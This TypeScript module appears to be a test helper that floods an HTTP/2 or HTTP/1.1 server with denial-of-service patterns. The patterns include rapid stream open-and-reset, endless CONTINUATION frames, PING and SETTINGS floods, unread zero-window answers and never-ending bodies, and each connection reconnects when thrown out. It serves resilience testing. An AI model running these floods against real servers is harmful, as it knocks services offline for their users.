/**
 * A client that means harm: connections that send frames as fast as the peer takes them, and come back when
 * they are thrown out. It runs in a thread of its own, so that the clients that must not suffer have theirs.
 *
 * @module
 */
import { once } from 'node:events'
import type { Socket } from 'node:net'
import { isMainThread, Worker, workerData } from 'node:worker_threads'
import { FLAG, FRAME, frame, headerBlock, openRaw, PREFACE, type RawTarget } from './raw-http.ts'

const CANCEL = Buffer.of(0, 0, 0, 8)
const ZERO_WINDOW = Buffer.of(0, 4, 0, 0, 0, 0)
/** What one connection may have open at once. */
const AT_ONCE = 90

interface Attack {
  /** The bytes of one round on a connection whose next stream has the given id. */
  readonly round: (nextStreamId: number, head: Head, options: FloodOptions) => readonly Buffer[]
  /** Streams that a round begins. */
  readonly streams: number
  /** What becomes of the connection after a round; unset: the next round follows. */
  readonly afterwards?: 'hold' | 'close'
  /** Reads nothing of what the peer answers. */
  readonly isDeaf?: true
  readonly isHttp1?: true
}

/** HEADERS of a request on that stream; `isEnded` when no body follows. */
type Head = (streamId: number, options?: { isEnded?: boolean; cookies?: number }) => Buffer

const each = (next: number, frames: (streamId: number) => readonly Buffer[]): readonly Buffer[] =>
  Array.from({ length: AT_ONCE }, (_, index) => frames(next + 2 * index)).flat()

const times = (count: number, bytes: Buffer): readonly Buffer[] => Array.from({ length: count }, () => bytes)

const http1Request = (path: string, authority: string, more = ''): Buffer =>
  Buffer.from(`GET ${path} HTTP/1.1\r\nhost: ${authority}\r\n${more}\r\n`)

const UPGRADE =
  'connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n'

export const ATTACKS = {
  'streams opened and reset': {
    round: (next, head) => each(next, (id) => [head(id), frame(FRAME.RST_STREAM, 0, id, CANCEL)]),
    streams: AT_ONCE,
  },
  'streams opened, and reset in the next packet': {
    // The server has begun on them by then.
    round: (next, head) => [
      ...(next === 1 ? [] : each(next - 2 * AT_ONCE, (id) => [frame(FRAME.RST_STREAM, 0, id, CANCEL)])),
      ...each(next, (id) => [head(id)]),
    ],
    streams: AT_ONCE,
  },
  'streams with a body, opened and reset': {
    round: (next, head) =>
      each(next, (id) => [
        head(id, { isEnded: false }),
        frame(FRAME.DATA, 0, id, Buffer.alloc(512)),
        frame(FRAME.RST_STREAM, 0, id, CANCEL),
      ]),
    streams: AT_ONCE,
  },
  'streams that the server has to reset': {
    // RFC 9113 §6.9: an increment of 0 is an error of the stream.
    round: (next, head) => each(next, (id) => [head(id), frame(FRAME.WINDOW_UPDATE, 0, id, Buffer.alloc(4))]),
    streams: AT_ONCE,
  },
  'requests whose connection is closed at once': {
    round: (next, head) => each(next, (id) => [head(id)]),
    streams: AT_ONCE,
    afterwards: 'close',
  },
  'HTTP/1.1 requests whose connection is closed at once': {
    round: (_, __, { path, authority }) => times(20, http1Request(path, authority)),
    streams: 20,
    afterwards: 'close',
    isHttp1: true,
  },
  'upgrades whose connection is closed at once': {
    round: (_, __, { path, authority }) => [http1Request(path, authority, UPGRADE)],
    streams: 1,
    afterwards: 'close',
    isHttp1: true,
  },
  'bodies that never end': {
    round: (next, head) => each(next, (id) => [head(id, { isEnded: false })]),
    streams: AT_ONCE,
    afterwards: 'hold',
  },
  'answers that nobody reads': {
    round: (next, head) => [frame(FRAME.SETTINGS, 0, 0, ZERO_WINDOW), ...each(next, (id) => [head(id)])],
    streams: AT_ONCE,
    afterwards: 'hold',
    isDeaf: true,
  },
  'requests with a hundred cookies': {
    round: (next, head) => each(next, (id) => [head(id, { cookies: 100 })]),
    streams: AT_ONCE,
  },
  'PING frames': {
    round: () => times(1000, frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
    streams: 0,
    isDeaf: true,
  },
  'SETTINGS frames': {
    round: () => times(1000, frame(FRAME.SETTINGS, 0, 0)),
    streams: 0,
    isDeaf: true,
  },
  'a header block without end': {
    round: (next) => [
      frame(FRAME.HEADERS, 0, next, Buffer.alloc(0)),
      ...times(1000, frame(FRAME.CONTINUATION, 0, next, headerBlock([['x', 'y']]))),
    ],
    streams: 1,
  },
} as const satisfies Readonly<Record<string, Attack>>

interface FloodOptions {
  readonly target: RawTarget
  /** `:authority` of the requests. */
  readonly authority: string
  readonly path: string
  readonly attack: keyof typeof ATTACKS
  readonly connections: number
}

interface Flood extends AsyncDisposable {
  /** Connections begun so far, those that were thrown out included. */
  readonly connections: number
  /** Streams begun so far. */
  readonly streams: number
}

export function startFlood(options: FloodOptions): Flood {
  const counts = new Int32Array(new SharedArrayBuffer(8))
  const worker = new Worker(import.meta.filename, { workerData: { options, counts } })
  return {
    get connections() {
      return counts[0] ?? 0
    },
    get streams() {
      return counts[1] ?? 0
    },
    async [Symbol.asyncDispose]() {
      await worker.terminate()
    },
  }
}

async function lane(options: FloodOptions, counts: Int32Array): Promise<never> {
  const { target, attack, authority, path } = options
  const { round, streams, afterwards, isDeaf, isHttp1 }: Attack = ATTACKS[attack]
  const head: Head = (streamId, { isEnded = true, cookies = 0 } = {}) => {
    const block = headerBlock([
      [':method', isEnded ? 'GET' : 'POST'],
      [':scheme', 'https'],
      [':authority', authority],
      [':path', path],
      ['accept', 'application/json'],
      ...Array.from({ length: cookies }, (_, index) => ['cookie', `c${index}=${index}`] as const),
    ])
    return frame(FRAME.HEADERS, FLAG.END_HEADERS | (isEnded ? FLAG.END_STREAM : 0), streamId, block)
  }
  const send = async (socket: Socket): Promise<void> => {
    const closed = new Promise((resolve) => socket.once('close', resolve))
    socket.on('error', () => undefined)
    if (isDeaf !== true) socket.resume()
    if (isHttp1 !== true) socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]))
    for (let next = 1; !socket.destroyed; next += 2 * streams) {
      Atomics.add(counts, 1, streams)
      if (!socket.write(Buffer.concat(round(next, head, options))))
        await Promise.race([once(socket, 'drain').catch(() => undefined), closed])
      await new Promise(setImmediate)
      if (afterwards === 'hold') await closed
      if (afterwards === 'close') socket.destroySoon()
    }
  }
  for (;;) {
    const socket = await openRaw(target, isHttp1 === true ? 'http/1.1' : 'h2').catch(() => undefined)
    if (socket === undefined) continue
    Atomics.add(counts, 0, 1)
    await send(socket)
  }
}

if (!isMainThread) {
  const { options, counts } = workerData as { readonly options: FloodOptions; readonly counts: Int32Array }
  for (let count = 0; count < options.connections; count += 1) void lane(options, counts)
}
